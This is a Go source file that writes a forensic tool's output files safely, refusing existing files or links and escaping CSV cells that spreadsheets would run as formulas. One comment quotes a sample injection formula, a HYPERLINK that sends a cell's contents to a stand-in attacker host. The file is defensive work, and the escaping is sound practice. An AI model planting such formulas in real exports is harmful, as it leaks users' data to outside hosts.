package analyze

import (
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"

	"github.com/doubleagent/doubleagent/bundle"
)

// outputNames are the files a run writes into -o DIR for a format.
func outputNames(format string) []string {
	tl := TimelineJSONL
	switch format {
	case "csv":
		tl = TimelineCSV
	case "timesketch":
		tl = TimelineTimesketch
	}
	return []string{tl, SessionsJSONL, InventoryJSON, ProblemsJSONL}
}

// ErrOutputExists is returned before any input is read when an output
// file (or a link, or anything) is already in -o DIR.
var ErrOutputExists = bundle.ErrOutputExists

// checkOutputs refuses, before anything is read, an output folder where a
// file this run writes already exists (a file, a link, a FIFO): outputs
// are never overwritten or written through a link. The files themselves
// are created with O_EXCL|O_NOFOLLOW (createOutput), so one planted while
// the run goes is refused too.
func checkOutputs(dir, format string) error {
	for _, n := range outputNames(format) {
		p := filepath.Join(dir, n)
		if fi, err := os.Lstat(p); err == nil {
			what := "a file"
			if !fi.Mode().IsRegular() {
				what = kindOf(fi.Mode())
			}
			return fmt.Errorf("%s is already there (%s): %w; choose a fresh -o folder", p, what, ErrOutputExists)
		} else if !errors.Is(err, fs.ErrNotExist) {
			return err
		}
	}
	return nil
}

// createOutput creates one output file: never through a link, never over
// an existing file.
func createOutput(path string) (*os.File, error) {
	return bundle.CreateNew(path, 0o644)
}

// CSVCell neutralises a cell a spreadsheet would run as a formula: text
// starting with '=', '+', '-', '@', a tab or a carriage return gets a
// leading "'" (OWASP's CSV injection advice), so
// =HYPERLINK("http://evil.example/?"&A1,"click") is shown, not run. Every
// other cell is unchanged; JSON Lines outputs are never altered.
func CSVCell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + s
	}
	return s
}

// CSVRow applies CSVCell to every cell of a row, in place.
func CSVRow(cells []string) []string {
	for i, c := range cells {
		cells[i] = CSVCell(c)
	}
	return cells
}

// writeFile writes data to a new output file (createOutput).
func writeFile(path string, data []byte) error {
	f, err := createOutput(path)
	if err != nil {
		return err
	}
	_, err = f.Write(data)
	if cerr := f.Close(); err == nil {
		err = cerr
	}
	return err
}
